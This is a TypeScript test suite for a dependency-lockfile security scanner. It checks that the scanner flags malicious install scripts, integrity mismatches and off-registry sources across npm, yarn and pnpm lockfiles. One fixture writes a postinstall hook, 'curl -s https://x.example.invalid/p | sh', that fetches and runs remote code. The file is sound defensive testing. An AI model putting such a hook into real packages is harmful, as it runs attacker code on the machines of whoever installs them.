import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Arborist from '@npmcli/arborist';
import pacote from 'pacote';
import { describe, expect, inject, it } from 'vitest';
import type { Report } from '../../src/report/build.js';
import { isolatedHome, runCli } from './cli.js';
import { git, lock, lockedMonorepo } from './monorepo.js';

const registry = inject('registryUrl');
const home = isolatedHome();

/** The path to the malicious package, through the workspace that depends on it, whatever the lockfile format. */
const COLLECTOR_PATH = [
  'acme-monorepo',
  '@acme-app/tools',
  'docs-mcp-server',
  'docs-helper',
  'markdown-parser-lite',
  'data-collector',
];
const monorepo = () => lockedMonorepo(registry, home.cache);
const scanProject = (cwd: string, ...args: string[]) =>
  runCli(['scan', '.', '--registry', registry, ...args], { cwd, home });

describe('project audits from the lockfile', () => {
  it('a monorepo with a malicious transitive dependency fails, and the path names the workspace', async () => {
    const dir = await monorepo();
    const result = await scanProject(dir, '--format', 'json');
    expect(result.code).toBe(1);
    const report = JSON.parse(result.stdout) as Report;
    expect(report.target).toBe('acme-monorepo (package-lock.json)');
    const collector = report.packages.find((pkg) => pkg.name === 'data-collector');
    expect(collector?.paths[0]).toEqual(COLLECTOR_PATH);
    expect(collector?.findings[0]).toMatchObject({ checkId: 'install-scripts', severity: 'critical' });
    // Dev dependencies and every workspace's tree are audited.
    expect(report.packages.map((pkg) => pkg.name)).toEqual(
      expect.arrayContaining(['tiny-units', 'weather-mcp-server']),
    );
  });

  it('SARIF points at the offending entry of package-lock.json', async () => {
    const dir = await monorepo();
    const result = await scanProject(dir, '--format', 'sarif');
    const log = JSON.parse(result.stdout);
    const [hit] = log.runs[0].results.filter(
      (r: { properties: { package: string } }) => r.properties.package === 'data-collector',
    );
    const line =
      readFileSync(join(dir, 'package-lock.json'), 'utf8')
        .split('\n')
        .findIndex((text) => text.includes('"node_modules/data-collector"')) + 1;
    expect(hit.locations[0].physicalLocation).toEqual({
      artifactLocation: { uri: 'package-lock.json' },
      region: { startLine: line },
    });
    // Findings the scan itself raises carry a rule too.
    const rules = log.runs[0].tool.driver.rules.map((rule: { id: string }) => rule.id);
    expect(rules).toEqual(expect.arrayContaining(['lockfile-integrity', 'lockfile-source', 'policy']));
  });

  it('an ignore with a reason turns it green; the same ignore expired turns it red again', async () => {
    const dir = await monorepo();
    const ignore = (expires?: string) =>
      writeFileSync(
        join(dir, '.ocellus.json'),
        JSON.stringify({
          ignore: [
            {
              check: 'install-scripts',
              package: 'data-collector',
              reason: 'sandboxed in CI, SEC-42',
              ...(expires ? { expires } : {}),
            },
          ],
        }),
      );
    ignore();
    expect((await scanProject(dir)).code).toBe(0);
    ignore('2026-01-01');
    const expired = await scanProject(dir);
    expect(expired.code).toBe(1);
    expect(expired.stdout).toContain('expired on 2026-01-01');
  });

  it('--changed-only scans only the packages a lockfile change added', async () => {
    const dir = await monorepo();
    const web = join(dir, 'packages', 'web', 'package.json');
    const manifest = JSON.parse(readFileSync(web, 'utf8'));
    manifest.dependencies['git-shortcuts'] = '^1.0.0';
    writeFileSync(web, JSON.stringify(manifest, null, 2));
    await lock(dir, registry, home.cache);
    const result = await scanProject(dir, '--changed-only', '--base', 'HEAD', '--format', 'json');
    const report = JSON.parse(result.stdout) as Report;
    expect(report.packages.map((pkg) => `${pkg.name}@${pkg.version}`)).toEqual(['git-shortcuts@1.2.0']);
    expect(report.packages[0]?.paths[0]).toEqual(['acme-monorepo', '@acme-app/web', 'git-shortcuts']);
    expect(result.code).toBe(1);
    // Nothing changed: nothing to scan, and that is a pass.
    git(dir, 'commit', '-qam', 'add');
    const none = await scanProject(dir, '--changed-only', '--base', 'HEAD', '--format', 'json');
    expect(JSON.parse(none.stdout).summary.packages).toBe(0);
    expect(none.code).toBe(0);
  });

  it('a tarball that does not match the lockfile integrity is a critical finding', async () => {
    const dir = await monorepo();
    const path = join(dir, 'package-lock.json');
    const lockfile = JSON.parse(readFileSync(path, 'utf8'));
    lockfile.packages['node_modules/tiny-units'].integrity =
      `sha512-${Buffer.alloc(64, 7).toString('base64')}`;
    writeFileSync(path, JSON.stringify(lockfile, null, 2));
    const result = await scanProject(dir, '--format', 'json');
    expect(result.code).toBe(1);
    const report = JSON.parse(result.stdout) as Report;
    expect(report.packages.find((pkg) => pkg.name === 'tiny-units')?.findings).toEqual([
      expect.objectContaining({ checkId: 'lockfile-integrity', severity: 'critical' }),
    ]);
    expect(report.summary.incomplete.map((mark) => mark.name)).toContain('tiny-units');
  });

  it('dependencies that bypass the registry are named; a vendored tarball is scanned, a git one is not analysed', async () => {
    const dir = await monorepo();
    const vendor = join(dir, 'vendor');
    mkdirSync(vendor);
    const source = join(dir, 'vendored-src');
    mkdirSync(source);
    writeFileSync(
      join(source, 'package.json'),
      JSON.stringify({
        name: 'vendored',
        version: '1.0.0',
        scripts: { postinstall: 'curl -s https://x.example.invalid/p | sh' },
      }),
    );
    writeFileSync(
      join(vendor, 'vendored-1.0.0.tgz'),
      await pacote.tarball(`file:${source}`, { Arborist, ignoreScripts: true }),
    );
    const manifest = JSON.parse(readFileSync(join(dir, 'package.json'), 'utf8'));
    manifest.dependencies = { vendored: 'file:vendor/vendored-1.0.0.tgz' };
    writeFileSync(join(dir, 'package.json'), JSON.stringify(manifest, null, 2));
    await lock(dir, registry, home.cache);
    const lockfile = JSON.parse(readFileSync(join(dir, 'package-lock.json'), 'utf8'));
    lockfile.packages['node_modules/from-git'] = {
      version: '1.0.0',
      resolved: 'git+ssh://git@github.com/acme/from-git.git#0123456789abcdef',
    };
    lockfile.packages[''].dependencies['from-git'] = 'github:acme/from-git';
    writeFileSync(join(dir, 'package-lock.json'), JSON.stringify(lockfile, null, 2));
    const result = await scanProject(dir, '--format', 'json');
    expect(result.code).toBe(1);
    const report = JSON.parse(result.stdout) as Report;
    const vendored = report.packages.find((pkg) => pkg.name === 'vendored');
    expect(vendored?.findings.map((finding) => [finding.checkId, finding.severity])).toEqual(
      expect.arrayContaining([
        ['install-scripts', 'critical'],
        ['lockfile-source', 'low'],
      ]),
    );
    expect(report.packages.find((pkg) => pkg.name === 'from-git')?.findings).toEqual([
      expect.objectContaining({ checkId: 'lockfile-source', severity: 'medium' }),
    ]);
    expect(report.summary.incomplete).toEqual([
      expect.objectContaining({ name: 'from-git', code: 'EOFFREGISTRY' }),
    ]);
  });

  it('a folder without a lockfile is a usage error that says how to make one', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ocellus-nolock-'));
    writeFileSync(join(dir, 'package.json'), '{"name":"x","version":"1.0.0"}');
    const result = await scanProject(dir);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('has no lockfile to audit');
    expect(result.stderr).toContain('npm install --package-lock-only');
  });

  it.each(['yarn.lock', 'pnpm-lock.yaml'])(
    'the same monorepo locked by %s: same verdict, same workspace path',
    async (kind) => {
      const dir = await monorepo();
      const npmLock = JSON.parse(readFileSync(join(dir, 'package-lock.json'), 'utf8'));
      writeFileSync(join(dir, kind), kind === 'yarn.lock' ? toYarnClassic(npmLock) : toPnpm(npmLock, dir));
      rmSync(join(dir, 'package-lock.json'));
      const result = await scanProject(dir, '--format', 'json');
      expect(result.code).toBe(1);
      const report = JSON.parse(result.stdout) as Report;
      expect(report.target).toBe(`acme-monorepo (${kind})`);
      expect(report.packages.find((pkg) => pkg.name === 'data-collector')?.paths[0]).toEqual(COLLECTOR_PATH);
      expect(report.summary.incomplete).toEqual([]);
    },
  );
});

type NpmLock = {
  packages: Record<
    string,
    {
      version?: string;
      integrity?: string;
      link?: boolean;
      dependencies?: Record<string, string>;
      devDependencies?: Record<string, string>;
    }
  >;
};

/** The monorepo's npm lockfile rewritten as yarn v1 would write it (registry.yarnpkg.com URLs, npm integrity). */
function toYarnClassic(lock: NpmLock): string {
  const ranges = new Map<string, Set<string>>();
  const want = (name: string, range: string) => ranges.set(name, (ranges.get(name) ?? new Set()).add(range));
  for (const entry of Object.values(lock.packages))
    for (const [name, range] of Object.entries({ ...entry.dependencies, ...entry.devDependencies }))
      want(name, range);
  const blocks: string[] = ['# yarn lockfile v1', ''];
  for (const [location, entry] of Object.entries(lock.packages)) {
    if (!location.startsWith('node_modules/') || entry.link || !entry.version) continue;
    const name = location.slice('node_modules/'.length);
    const keys = [...(ranges.get(name) ?? [entry.version])].map((range) => `"${name}@${range}"`).join(', ');
    const deps = Object.entries(entry.dependencies ?? {}).map(([dep, range]) => `    ${dep} "${range}"`);
    blocks.push(
      `${keys}:`,
      `  version "${entry.version}"`,
      `  resolved "https://registry.yarnpkg.com/${name}/-/${name.split('/').pop()}-${entry.version}.tgz#0000"`,
      `  integrity ${entry.integrity}`,
      ...(deps.length ? ['  dependencies:', ...deps] : []),
      '',
    );
  }
  return blocks.join('\n');
}

/** The same lockfile as pnpm v9 would write it: importers per workspace, packages and snapshots. */
function toPnpm(lock: NpmLock, dir: string): string {
  const version = (name: string) => lock.packages[`node_modules/${name}`]?.version ?? '0.0.0';
  const importer = (path: string) => {
    const manifest = JSON.parse(readFileSync(join(dir, path, 'package.json'), 'utf8'));
    const lines: string[] = [`  ${path}:`];
    for (const field of ['dependencies', 'devDependencies']) {
      const deps = Object.entries((manifest[field] ?? {}) as Record<string, string>);
      if (deps.length === 0) continue;
      lines.push(`    ${field}:`);
      for (const [name, range] of deps)
        lines.push(`      ${name}:`, `        specifier: ${range}`, `        version: ${version(name)}`);
    }
    return lines;
  };
  const out = [
    "lockfileVersion: '9.0'",
    '',
    'importers:',
    ...importer('.'),
    ...importer('packages/web'),
    ...importer('packages/tools'),
    '',
    'packages:',
  ];
  const snapshots = ['', 'snapshots:'];
  for (const [location, entry] of Object.entries(lock.packages)) {
    if (!location.startsWith('node_modules/') || entry.link || !entry.version) continue;
    const name = location.slice('node_modules/'.length);
    out.push(`  ${name}@${entry.version}:`, `    resolution: {integrity: ${entry.integrity}}`);
    const deps = Object.keys(entry.dependencies ?? {});
    snapshots.push(`  ${name}@${entry.version}:${deps.length ? '' : ' {}'}`);
    if (deps.length)
      snapshots.push('    dependencies:', ...deps.map((dep) => `      ${dep}: ${version(dep)}`));
  }
  writeFileSync(join(dir, 'pnpm-workspace.yaml'), 'packages:\n  - packages/*\n');
  return [...out, ...snapshots, ''].join('\n');
}
